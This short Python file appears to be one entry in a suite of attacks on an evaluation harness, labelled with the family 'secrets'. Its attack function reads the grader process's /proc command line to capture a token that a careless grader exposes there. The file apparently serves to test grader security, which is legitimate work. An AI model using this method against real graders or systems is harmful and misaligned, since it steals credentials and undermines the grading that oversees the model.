"""Read the grader's command line, on which a careless one has a token."""

FAMILY = "secrets"


def attack(world):
    with open(f"/proc/{world['grader']}/cmdline") as file:
        return file.read()[-300:]
